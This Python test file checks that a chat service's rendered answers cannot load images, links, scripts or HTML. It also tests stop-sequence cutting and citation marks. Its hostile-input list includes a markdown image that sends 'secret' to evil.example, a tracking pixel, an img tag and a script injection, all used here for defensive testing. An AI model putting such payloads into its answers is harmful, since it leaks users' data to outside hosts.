"""The text of an answer as chat programs show it: where it is cut, what can load or lead nowhere, where marks stand."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from talks import make_answer

from bot.schema import Answer, AnswerSentence, Citation, Source
from ui.api.completions import tell_whole
from ui.api.telling import Cut, defuse

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref]",
    "[ref]: https://evil.example/pixel",
    '<img src="https://evil.example/x.png">',
    "[click](https://evil.example)",
    "<https://evil.example>",
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    "</p><style>*{}</style>",
]


def say(text: str, *quotes: str) -> Answer:
    """An answer of one sentence, which cites these quotes."""
    source = Source("a/b c", "A title", None, None, "2023-09-27", "/a")
    citations = tuple(
        Citation(number, quote, 0, len(quote), None, source) for number, quote in enumerate(quotes, start=1)
    )
    sentence = AnswerSentence(text, tuple(one.number for one in citations), "supported")
    return replace(make_answer(), text=sentence.marked, sentences=(sentence,), citations=citations)


@pytest.mark.parametrize("text", [*HOSTILE, "\n\n".join(HOSTILE)])
def test_nothing_in_a_text_loads_or_leads_anywhere_in_markdown(text: str) -> None:
    told = tell_whole(say(f"{text}\n\n{text} there.", text), Cut()).text
    shown = MarkdownIt("commonmark").render(told)
    assert not [tag for tag in ("<img", "<a ", "<script", "<style", "<!--") if tag in shown], shown


@given(st.text(alphabet="[]()<>!:a/ \\", max_size=30))
def test_no_text_makes_an_image_or_html(text: str) -> None:
    shown = MarkdownIt("commonmark").render(defuse(text))
    assert "<img" not in shown and "<a/" not in shown


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in ("He said [sic] that 3 < 5 & $4*5_6 went (see above)!", "“Wow!” [1][2]", "a\\b", "x <- y"):
        assert defuse(text) == text


def test_each_mark_is_annotated_where_it_stands() -> None:
    answer = say("Two things ![are](so)", "One.", "Two.")
    told = tell_whole(answer, Cut())
    found = [one["url_citation"] for one in told.annotate(answer.citations, "http://127.0.0.1/")]
    assert [told.text[one["start_index"] : one["end_index"]] for one in found] == ["[1]", "[2]"]
    assert {one["url"] for one in found} == {"http://127.0.0.1/api/v1/documents/a/b%20c"}
    cut = tell_whole(answer, Cut(["are"]))
    assert cut.text == "Two things !\\[" and cut.annotate(answer.citations, "") == []


@given(st.text(alphabet="abc", max_size=30), st.lists(st.text(alphabet="abc", min_size=1, max_size=4), max_size=3))
def test_a_text_in_pieces_is_cut_where_it_is_cut_as_a_whole(text: str, stops: list[str]) -> None:
    cut = Cut(stops)
    got = "".join(cut.take(sign) for sign in text) + cut.end()
    first = min((place for stop in stops if (place := text.find(stop)) >= 0), default=None)
    ends = [text.find(stop) + len(stop) for stop in stops if stop in text]
    assert got == text[: len(got)] and (got == text if first is None else len(got) < min(ends))
    assert all(stop not in got for stop in stops)


def test_pieces_that_are_too_many_tokens_are_left_out_whole() -> None:
    cut = Cut(most=8)
    assert cut.take("One two three four.") == "One two three four." and cut.take(" Five six seven eight.") == ""
    assert (cut.end(), cut.reason) == ("", "length") and cut.take("more") == ""
